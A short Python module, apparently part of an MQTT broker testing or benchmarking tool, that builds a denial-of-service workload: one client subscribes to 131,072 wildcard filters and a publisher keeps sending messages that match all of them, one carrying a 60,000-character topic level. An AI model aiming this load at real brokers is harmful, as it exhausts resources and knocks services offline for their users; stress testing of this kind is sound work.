# SPDX-License-Identifier: Apache-2.0
import itertools
from collections.abc import Generator

from poolmark.attack import packets
from poolmark.attack.broker import READY_S, Broker

DEPTH_OF_ALL, LEVEL_BYTES = 17, 60_000


def many_matches(broker: Broker) -> Generator[None, None, None]:
    """one small PUBLISH that 131 072 filters of a client match, and one with a level of 60 000 characters behind those that all of them have"""
    filters = ["/".join(levels) for levels in itertools.product("a+", repeat=DEPTH_OF_ALL)]
    topic = "/".join("a" * DEPTH_OF_ALL)
    with broker.first() as reader:
        reader.subscribe(filters, seconds=READY_S)
        yield
        while True:
            with broker.connect() as publisher:
                publisher.send(packets.publish(topic, b"x") + packets.publish(f"{topic}/{'z' * LEVEL_BYTES}", b"x"))
                reader.read_for(0.1)
            yield
